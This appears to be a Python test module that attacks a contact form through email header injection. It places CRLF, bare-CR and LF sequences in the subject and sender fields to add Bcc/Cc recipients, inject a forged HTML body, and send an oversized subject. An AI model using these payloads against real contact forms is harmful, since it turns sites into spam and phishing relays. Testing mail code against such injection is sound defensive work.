"""Attacks by the fields of a contact form."""

from prover import Target

from .stage import Stage


def reaches(target: Target, stage: Stage, sender: str, subject: str) -> bool:
    sent = target.contact_mail(sender, subject, "Buy this now!")
    print("delivered to", *sorted(stage.recipients(sent)))
    return "victim@example.net" in stage.recipients(sent)


def attack_blind_copy(target: Target, stage: Stage) -> bool:
    """End the subject with a line break, and add a blind copy."""
    return reaches(target, stage, "me@example.com", "Hi\r\nBcc: victim@example.net")


def attack_by_the_sender(target: Target, stage: Stage) -> bool:
    """Add a copy after the sender's address, which few programs check."""
    return reaches(target, stage, "me@example.com\nCc: victim@example.net", "Hello")


def attack_carriage_return(target: Target, stage: Stage) -> bool:
    """End the line with a carriage return alone."""
    return reaches(target, stage, "me@example.com", "Hi\rBcc: victim@example.net")


def attack_own_body(target: Target, stage: Stage) -> bool:
    """End the head, and write an HTML message above the real text."""
    subject = "Hello\r\nContent-Type: text/html\r\n\r\n<h1>You have won</h1><!--"
    sent = target.contact_mail("me@example.com", subject, "as the form demands")
    message = stage.read(sent)
    print(message.get_content_type(), message.get_payload())
    return message.get_content_type() == "text/html"


def attack_long_subject(target: Target, stage: Stage) -> bool:
    """Send a subject of a megabyte."""
    sent = target.contact_mail("me@example.com", "a" * 1_000_000, "Hello")
    print(f"{len(sent):,} bytes")
    return len(sent) > 10_000
